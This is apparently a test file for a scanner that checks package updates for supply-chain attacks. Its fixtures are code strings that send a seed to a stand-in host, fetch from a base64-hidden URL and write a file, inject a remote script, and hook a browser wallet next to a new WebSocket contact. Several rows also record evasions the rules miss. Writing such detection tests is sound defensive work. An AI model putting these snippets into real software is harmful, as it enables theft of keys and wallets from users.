// Blocking rules about keys, pages, wallets and hidden addresses in updates, one term short: what an attacker gains by
// falsifying a single term is at most a review, or the row says why it is nothing.
import { checkRows, type Row, releasesWith } from './one-term-short.ts'

const old = 'published: 2026-06-01T00:00:00Z, before: { published: 2025-01-01T00:00:00Z }'
const now = 'now: 2026-11-15T12:00:00Z, published: 2026-11-15T11:00:00Z'
const silent = `${now}, before: { published: 2024-01-01T00:00:00Z }`
const lively = `${now}, before: { published: 2026-09-01T00:00:00Z }`
const plain =
  'exports.ask = (url) => fetch(url)\nexports.sign = (text, privateKey) => text.length\nexports.at = () => window.ethereum.request({})\n'

const release = releasesWith(plain)
const before = release('1.0.0', {})
const row = (term: string, code: string, gives: string, about = old, because = ''): Row => ({
  term,
  before,
  after: release('1.0.1', { 'index.js': plain + code }),
  about,
  gives,
  because,
})
const inFile = (term: string, code: string, gives: string, because = ''): Row => ({
  term,
  before,
  after: release('1.0.1', { 'index.js': `${plain}require("./geo")\n`, 'geo.js': code }),
  about: old,
  gives,
  because,
})

const hook = 'const p = window.ethereum, q = p.request.bind(p)\np.request = async (c) => q(c)\n'
const tell = 'new WebSocket("wss://d.example.test")\n'
const script = (at: string) =>
  `const s = document.createElement("script")\ns.src = ${at}\ndocument.head.appendChild(s)\n`
const hidden = 'Buffer.from("aHR0cHM6Ly9hLmV4YW1wbGUudGVzdC9wYXRoL3RvL2EvdGhpbmc=", "base64").toString("utf8")'
const write = '() => require("fs").writeFileSync("a", "b")'

const rows: Readonly<Record<string, readonly Row[]>> = {
  'key-sent-to-new-host': [
    row('none', 'exports.x = (seed) => fetch("https://k.example.test", { headers: { a: seed } })', 'block'),
    row(
      'a new host, but one the caller gives',
      'exports.x = (at, seed) => fetch(at, { headers: { a: seed } })',
      'review',
    ),
    row(
      'a host in the call, but elsewhere',
      'const at = (p) => p\nexports.x = (seed) => fetch(at(process.argv[2]), { headers: { a: seed } })\nexports.y = () => fetch("https://k.example.test")',
      'review',
    ),
    row(
      'what is called a key',
      'exports.x = (text) => fetch("https://k.example.test", { headers: { a: text } })',
      'quiet',
      old,
      'whose key it is says nothing but its name, and the names are those that the package itself uses for its keys',
    ),
  ],
  'hidden-address-and-writes': [
    inFile('none', `require("https").get(${hidden}, ${write})\n`, 'block'),
    inFile(
      'hidden',
      `require("https").get("https://a.example.test", ${write})\n`,
      'quiet',
      'a plain host and a file are what updaters have',
    ),
    inFile('writes', `require("https").get(${hidden}, () => {})\n`, 'review'),
    row('a file of its own', `require("https").get(${hidden}, ${write})\n`, 'review'),
  ],
  'page-script-in-an-odd-release': [
    row('none', script('"https://v.example.test/x"'), 'block', silent),
    row('silence', script('"https://v.example.test/x"'), 'review', lively),
    row('youth', script('"https://v.example.test/x"'), 'review', old),
    row(
      'a host, but one that is put together',
      script('["https:/", "v.example." + location.hash].join("/")'),
      'quiet',
      silent,
      'a host that nothing names is seen by no rule: a documented limit',
    ),
  ],
  'wallet-taken-over-with-new-contact': [
    row('none', hook + tell, 'block'),
    row('contact', hook, 'review'),
    row('the wallet', tell, 'quiet', old, 'a package that talks names another host'),
  ],
}

checkRows(rows)
